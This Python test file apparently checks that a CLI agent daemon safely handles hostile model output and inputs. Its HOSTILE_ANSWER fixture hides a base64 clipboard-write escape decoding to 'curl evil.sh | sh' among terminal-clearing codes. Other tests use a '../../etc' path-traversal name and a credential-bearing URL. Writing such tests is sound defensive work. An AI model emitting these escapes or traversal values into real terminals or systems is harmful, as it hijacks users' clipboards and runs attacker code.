"""The medium and low findings of issue 11, as a user meets them through the
CLI: a real daemon, real kernels, the loopback fake server for the model.
A refusal is one line on stderr with a non-zero exit, never "internal error",
and changes nothing."""

from __future__ import annotations

import json
import os
import pty
import stat
import subprocess
import sys
from pathlib import Path

from attack_kit import (
    attack,
    cli_json,
    daemon_running,
    one_line_failure,
    python,
    reply_then,
    report,
    send,
    start,
)

from daemon_kit import recursa
from recursa.config import AgentsTable
from recursa.testing import FakeModelServer, Reply

HOSTILE_ANSWER = "Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[3J\x1b[HAll clear."
"""An answer that writes the clipboard (OSC 52) and clears the screen."""


def _run_on_a_tty(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, bytes]:
    """Run the CLI with its stdout on a pseudo-terminal: exit code and what the
    terminal received."""
    controller, terminal = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "recursa", *args],
        env=env,
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        stderr=subprocess.DEVNULL,
    )
    os.close(terminal)
    received = bytearray()
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # EIO: the last writer closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(controller)
    return proc.wait(timeout=120), bytes(received)


def test_the_answer_on_a_tty_has_no_raw_escapes_and_json_keeps_them(
    server: FakeModelServer, env: dict[str, str], tmp_path: Path
) -> None:
    server.push(Reply(text=HOSTILE_ANSWER))
    result = recursa(["run", "--json", "--model", "openai/m", "answer"], env, tmp_path)
    assert result.returncode == 0, result.stderr
    last = json.loads(result.stdout.splitlines()[-1])
    assert last["answer"] == HOSTILE_ANSWER

    server.push(Reply(text=HOSTILE_ANSWER))
    code, shown = _run_on_a_tty(["run", "--model", "openai/m", "answer"], env, tmp_path)
    assert code == 0
    assert b"Done." in shown and b"All clear." in shown
    for raw in (b"\x1b]", b"\x9d", b"\x07", b"\x1b[2J", b"\x1b[3J", b"\x1b[H"):
        assert raw not in shown, f"{raw!r} reached the terminal: {shown!r}"


SURROGATE_PROPOSAL = (
    '[{"op": "create", "kind": "memory", "title": "broken", "content": "half a pair: \\ud800",'
    ' "scope": "local", "reason": "seen in a cell"}]'
)
"""A refinement's model reply whose JSON decodes to a lone surrogate (the
kernel's own routes refuse one; the refinement reply is parsed by the daemon)."""


def test_a_lone_surrogate_in_a_staged_edit_blocks_no_later_edit(
    server: FakeModelServer, env: dict[str, str], tmp_path: Path
) -> None:
    server.push(
        Reply(tool_calls=[python("print(await refine.run('look for facts'))")]),
        Reply(text=SURROGATE_PROPOSAL),  # the refinement's own model call, during the cell
        Reply(text="refined"),
    )
    session = start(env, tmp_path, "refine yourself")
    reply_then(server, python("await harness.create('memory', 'later', 'the CI runs nightly')"))
    send(env, tmp_path, session, "remember something plain")
    reply_then(server, python("print('third turn')"))
    send(env, tmp_path, session, "carry on")
    entries = {e["title"]: e["status"] for e in cli_json(env, tmp_path, "harness", "list")}
    assert entries.get("later") == "active", entries
    assert entries.get("broken") != "active"


def test_a_world_writable_home_is_refused_and_left_as_it_is(
    env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    home.mkdir()
    os.chmod(home, 0o1777)
    result = recursa(["daemon", "start"], env, tmp_path)
    line = one_line_failure(result)
    assert str(home) in line or "RECURSA_HOME" in line, line
    assert stat.S_IMODE(os.stat(home).st_mode) == 0o1777
    status = recursa(["daemon", "status"], env, tmp_path)
    assert status.returncode != 0, "a daemon runs in the world-writable home"


def test_credentials_in_a_base_url_never_reach_the_log(
    server: FakeModelServer, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    secret = "sk-url-secret-4c1d"
    env = {**env, "OPENAI_BASE_URL": f"http://alice:{secret}@127.0.0.1:{server.port}/v1"}
    server.push(Reply(text="hello"))
    result = recursa(["run", "--model", "openai/m", "say hello"], env, tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "hello"
    assert len(server.requests) == 1  # the request went out through that URL
    log = (home / "daemon.log").read_text(errors="replace")
    assert secret not in log, "the key is in daemon.log"
    assert secret not in result.stderr and secret not in result.stdout


def test_a_non_utf8_or_overlong_reference_is_one_line(
    server: FakeModelServer, env: dict[str, str], tmp_path: Path
) -> None:
    server.push(Reply(text="hi"))
    start(env, tmp_path, "exist")
    problems = {}
    for label, reference in (("0xff 0xfe", "\udcff\udcfe"), ("100,000 chars", "s" * 100_000)):
        result = recursa(["logs", reference], env, tmp_path)  # \udcXX: the raw byte 0xXX
        lines = result.stderr.strip().splitlines()
        if result.returncode != 2 or len(lines) != 1 or "internal error" in result.stderr:
            problems[label] = (result.returncode, result.stderr[-300:])
    assert problems == {}


def test_a_session_name_that_is_a_path_is_refused(
    server: FakeModelServer, env: dict[str, str], tmp_path: Path
) -> None:
    server.push(Reply(text="hi"))
    result = recursa(
        ["run", "--detach", "--name", "../../etc", "--model", "openai/m", "hi"], env, tmp_path
    )
    one_line_failure(result, 2)
    if daemon_running(env, tmp_path):
        assert [s["name"] for s in cli_json(env, tmp_path, "agents")] == []


MAX_CHILDREN = 2
SPAWN_ATTEMPTS = 6


def test_a_cell_cannot_admit_more_children_than_max_children(
    server: FakeModelServer, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    """``[agents] max_children`` bounds one session's children; the spawns past
    it come back to the cell as errors. (Where the key is not known yet, the
    test runs without it: the attack itself must then be refused somehow.)"""
    if "max_children" in AgentsTable.__annotations__:
        home.mkdir(mode=0o700)
        (home / "config.toml").write_text(f"[agents]\nmax_children = {MAX_CHILDREN}\n")
    spawn = f"""
report.update(admitted=0, refused=[])
for i in range({SPAWN_ATTEMPTS}):
    try:
        await rlm("say ok", name=f"c{{i}}", model="faux/echo")
        report["admitted"] += 1
    except Exception as exc:
        report["refused"].append(f"{{type(exc).__name__}}: {{exc}}")
    save()
print(report)
"""
    reply_then(server, attack(spawn))
    session = start(env, tmp_path, "fan out")
    children = [s for s in cli_json(env, tmp_path, "agents") if s["parent_id"] == session]
    assert len(children) <= MAX_CHILDREN, [c["name"] for c in children]
    found = report(tmp_path)
    assert found["admitted"] <= MAX_CHILDREN
    assert len(found["refused"]) == SPAWN_ATTEMPTS - found["admitted"]
    assert all(len(r.splitlines()) == 1 for r in found["refused"]), found["refused"]


def test_a_zero_byte_database_in_a_used_home_is_refused(
    server: FakeModelServer, env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    """A home that has held a session, whose recursa.db is then emptied (a
    truncation, a full disk): the next daemon refuses it rather than start over."""
    server.push(Reply(text="hi"))
    start(env, tmp_path, "leave some history")
    down = recursa(["shutdown"], env, tmp_path)
    assert down.returncode == 0, down.stderr
    for leftover in ("recursa.db-wal", "recursa.db-shm"):
        (home / leftover).unlink(missing_ok=True)
    (home / "recursa.db").write_bytes(b"")
    result = recursa(["daemon", "start"], env, tmp_path)
    one_line_failure(result)
    assert (home / "recursa.db").stat().st_size == 0
    assert not daemon_running(env, tmp_path)
